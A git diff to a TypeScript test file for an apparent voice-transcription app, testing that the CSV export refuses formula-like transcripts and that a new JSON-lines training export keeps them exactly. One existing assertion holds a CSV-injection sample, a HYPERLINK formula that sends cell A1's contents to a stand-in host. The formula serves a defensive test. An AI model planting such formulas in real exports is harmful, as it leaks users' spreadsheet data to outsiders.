@@ -10,7 +10,9 @@ import fs from 'node:fs';
 import path from 'node:path';
 import { decodeWav } from '../../../src-main/audio/wav.ts';
 import { parseCsv } from '../../../src-main/store/csv.ts';
-import { exportAudiofolder } from '../../../src-main/store/export.ts';
+import { exportAudiofolder, exportTrainingDataset } from '../../../src-main/store/export.ts';
+import { readTrainingSet } from '../../../src-main/tuning/dataset.ts';
+import { readEvalSet } from '../../../src-main/eval/eval-set.ts';
 import { importFolder } from '../../../src-main/store/import.ts';
 import { addPrompts } from '../../../src-main/store/prompts.ts';
 import { getOrCreateProject } from '../../../src-main/store/projects.ts';
@@ -119,4 +121,28 @@ test('CSV injection: a formula transcript is refused (nothing changes); --escape
   const rows = Object.values(loadAudiofolder(out)).flat();
   assert.ok(rows.some((x) => x.transcription === `'=HYPERLINK("http://x.example/?"&A1,"click")`));
   assert.ok(rows.some((x) => x.transcription === 'plain words'));
+});
+
+test('the dataset Tune trains on is JSON lines: formula-like transcripts export exactly and never block (issue 11, problem 6)', async () => {
+  const store = openStore(tempDir('vt-exp-'));
+  const pid = getOrCreateProject(store.db).id;
+  const texts = ['-5 degrees outside', '+1 for CUDA', '=SUM(A1) is not a formula here', '@mention the team'];
+  for (const [i, text] of texts.entries()) saveRecording(store, pid, { samples: clip(i + 1), transcript: { text, source: 'typed' } });
+  // The CSV export still refuses by default (a spreadsheet would run these)…
+  assert.throws(() => exportAudiofolder(store, pid, path.join(tempDir('vt-out-'), 'csv')), (e: Error & { code?: string }) => e.code === 'EXPORT_CSV_FORMULA');
+  // …the training export writes them as they are.
+  const out = path.join(tempDir('vt-out-'), 'ds');
+  const r = exportTrainingDataset(store, pid, out);
+  assert.deepEqual(r.escaped, []);
+  const files = fs.readdirSync(out).flatMap((d) => fs.readdirSync(path.join(out, d)).filter((f) => f.startsWith('metadata')).map((f) => `${d}/${f}`));
+  assert.ok(files.length > 0 && files.every((f) => f.endsWith('metadata.jsonl')), files.join(', '));
+  const rows = files.flatMap((f) => fs.readFileSync(path.join(out, f), 'utf8').trim().split('\n').map((l) => JSON.parse(l)));
+  assert.deepEqual(rows.map((x) => x.transcription).sort(), [...texts].sort());
+  assert.ok(rows.every((x) => typeof x.subset === 'string' && typeof x.terms === 'string'));
+  // Both readers (the trainer's and the comparison's) get the exact text back.
+  const ts = await readTrainingSet(out);
+  const trained = [...ts.train, ...ts.validation, ...ts.general].map((c) => c.text);
+  const ev = readEvalSet(out).clips.map((c) => c.reference);
+  // test/ is held out from training; together the two readers see every text, unchanged.
+  assert.deepEqual([...new Set([...trained, ...ev])].sort(), [...texts].sort());
 });
